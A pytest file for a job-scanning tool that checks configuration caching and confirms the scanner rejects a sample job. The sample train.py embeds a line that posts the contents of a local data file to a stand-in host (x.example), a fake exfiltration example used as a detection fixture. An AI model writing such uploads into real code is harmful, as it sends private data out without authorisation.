"""A small job's start (session 37): a start that finds its configuration cache validates no rule pack,
catalogue or list file (their loaded objects are unpickled: compiled.built) and imports no module that
only a failure or an INI/setup.cfg file needs; its report is the first start's."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from conftest import ROOT

# Imported only where something fails (logging, traceback) or a job holds an INI or setup.cfg file.
FAILURE_ONLY = ("configparser", "logging", "traceback")
# Models whose pydantic twin is built only to validate a document (analyzer/schema.py).
DEFERRED = ("analyzer.engine.rules.Pack", "analyzer.engine.catalogue.CatalogueFile", "analyzer.engine.lists.ListFile",
            "analyzer.policy.Policy", "analyzer.engine.flow.vocabulary.VocabularyFile")

SCAN = """
import json, runpy, sys
sys.path.insert(0, {root!r})
sys.argv = ["jobgate", "scan", "--no-cache", "--format", "json", {target!r}]
try:
    import analyzer.commands.cli; analyzer.commands.cli.main()  # as `python -m` runs it, but for run()'s immediate end
except SystemExit:
    pass
built = ["_twin_class" in vars(getattr(sys.modules[m], c)) for m, _, c in (n.rpartition(".") for n in {deferred!r})]
print(json.dumps([sorted(m for m in {unused!r} if m in sys.modules), built]))
"""


def _start(target: Path, cache_home: Path) -> tuple[dict, list[str], list[bool]]:
    script = SCAN.format(root=str(ROOT), target=str(target), unused=FAILURE_ONLY, deferred=DEFERRED)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "XDG_CACHE_HOME": str(cache_home)}, cwd=cache_home)
    report, _, tail = proc.stdout.rpartition("\n[[")
    assert tail, proc.stderr[-3000:]
    imported, built = json.loads("[[" + tail)
    return json.loads(report), imported, built


def test_a_start_with_its_configuration_cache_validates_nothing_and_reports_the_same(tmp_path: Path) -> None:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import requests\nimport numpy as np\n\nrequests.post('https://x.example', "
                                  "data=np.load('/data/site/x.npy').tobytes())\n")
    first, _, built_first = _start(job, tmp_path)
    again, imported, built_again = _start(job, tmp_path)
    assert built_first == [True] * len(DEFERRED)  # the first start validated every document
    assert built_again == [False] * len(DEFERRED)
    assert imported == []
    assert again == first and first["reports"][0]["decision"] == "reject"
    assert {f["rule"] for f in first["reports"][0]["findings"]} >= {"network.client-library", "network.data-to-network"}
